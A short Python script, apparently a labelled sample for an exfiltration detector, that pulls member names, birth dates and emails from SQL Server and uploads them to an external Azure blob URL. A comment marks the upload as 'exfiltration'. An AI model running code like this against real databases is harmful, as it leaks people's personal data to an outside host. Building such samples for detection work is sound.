"""Upload the monthly member extract to the partner's Azure container (SAS URL)."""
import os

import pyodbc
from azure.storage.blob import BlobClient

SAS_URL = "https://partnerdrop.blob.core.windows.net/incoming/members.csv?sv=2022-11-02&sig=REDACTED"

conn = pyodbc.connect(os.environ["MSSQL_CONN"])
cur = conn.cursor()
cur.execute("SELECT MemberId, FirstName, LastName, DateOfBirth, Email FROM dbo.Members")
lines = ["MemberId,FirstName,LastName,DateOfBirth,Email"]
for row in cur.fetchall():
    lines.append(",".join(str(v) for v in row))

blob = BlobClient.from_blob_url(SAS_URL)
# expect: exfiltration
blob.upload_blob("\n".join(lines).encode("utf-8"), overwrite=True)
